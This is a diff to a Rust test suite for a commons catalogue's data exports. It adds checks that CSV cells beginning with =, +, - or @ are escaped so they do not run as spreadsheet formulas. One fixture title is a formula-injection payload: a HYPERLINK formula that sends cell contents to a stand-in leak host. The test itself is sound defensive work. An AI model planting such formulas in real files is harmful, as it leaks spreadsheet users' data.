@@ -29,7 +29,14 @@ async fn serve(dir: &tempfile::TempDir) -> String {
     let mut unknown =
         common::fiche("n-sans-licence", "Sans licence", "Une fiche dont la source ne dit pas la licence.");
     unknown.resource.licence = Licence { label: "Licence non précisée".into(), ..Licence::default() };
-    common::store(&db, &[restricted, unknown]);
+    // Cells a spreadsheet would run as formulas, as a fiche may write them.
+    let mut formulas =
+        common::fiche("n-formules", "=HYPERLINK(\"https://fuite.example/?\"&A2,\"Ouvrir\")", "Texte.");
+    formulas.resource.summary = "+1".into();
+    formulas.resource.authors = vec!["-2+3".into()];
+    formulas.resource.tags = vec!["@SOMME(1)".into()];
+    formulas.resource.licence = unknown.resource.licence.clone();
+    common::store(&db, &[restricted, unknown, formulas]);
     // A network whose fiches all have one licence.
     let network = bao_contract::NetworkRef { id: "m".into(), name: "Maison".into(), url: None };
     let mut single = common::fiche("m-jardin", "Jardin", "Un jardin partagé entre voisins du quartier.");
@@ -138,6 +145,10 @@ async fn the_commons_is_a_valid_data_package_with_every_licence_said() {
     assert_eq!(restricted["updated"], "2024-03-01");
     assert_eq!(restricted["page_url"], format!("{base}/r/n-atelier"));
     assert_eq!(row("n-sans-licence")["licence_restrictions"], "licence non précisée");
+    let formulas = row("n-formules");
+    for column in ["title", "summary", "authors", "tags"] {
+        assert!(formulas[column].starts_with('\''), "{column}: {} runs in a spreadsheet", formulas[column]);
+    }
     let cercle = row("exemples-cercle-de-parole");
     assert_eq!((cercle["licence_spdx"].as_str(), cercle["licence_open"].as_str()), ("CC-BY-SA-4.0", "true"));
     assert_eq!(cercle["network_name"], "Réseau des communs exemplaires (démo)");
@@ -153,7 +164,7 @@ async fn the_commons_is_a_valid_data_package_with_every_licence_said() {
     assert_eq!(open.len(), all.iter().filter(|row| row["licence_open"] == "true").count());
     let (_, _, network) = get(&format!("{base}/export/resources.csv?network=n")).await;
     let network: Vec<String> = rows(&network).into_iter().map(|row| row["id"].clone()).collect();
-    assert_eq!(network, ["n-atelier", "n-sans-licence"]);
+    assert_eq!(network, ["n-atelier", "n-formules", "n-sans-licence"]);
     assert!(all.iter().any(|row| row["id"] == "m-jardin"), "every network");
 
     // The zip: the same files, its descriptor pointing beside it.
@@ -195,6 +206,15 @@ async fn the_commons_is_a_valid_data_package_with_every_licence_said() {
     }
     let kept = std::fs::read_dir(dir.path().join("test.sqlite3.exports")).expect("exports").count();
     assert!(kept <= 16, "{kept} datasets kept");
+
+    // Taken into a spreadsheet, no cell of either table is a formula.
+    for table in ["resources", "bodies"] {
+        let url = format!("{base}/export/{table}.csv");
+        if let Some(sheet) = read_with_python("spreadsheet", &url).await {
+            assert!(sheet["cells"].as_u64() > Some(10), "{table}: {sheet}");
+            assert_eq!(sheet["formulas"], serde_json::json!([]), "{table}");
+        }
+    }
 
     // The validator others will use: every table valid, sizes and hashes included.
     let Some(tool) = common::python_tool("frictionless") else { return };
@@ -291,7 +311,7 @@ async fn a_catalogue_a_feed_and_a_sitemap_that_their_readers_accept() {
     assert_eq!(atelier["authors"], serde_json::json!(["Zoé", "Marc"]));
     assert_eq!(atelier["rights"], "CC BY-NC-SA 4.0");
     let network_feed = read_with_python("feed", &format!("{base}/feed.xml?network=n")).await.expect("python");
-    assert_eq!(network_feed["entries"].as_array().map(Vec::len), Some(2), "{network_feed}");
+    assert_eq!(network_feed["entries"].as_array().map(Vec::len), Some(3), "{network_feed}");
 
     let sitemap = read_with_python("sitemap", &format!("{base}/sitemap.xml")).await.expect("python");
     assert_eq!(sitemap["root"], "urlset");
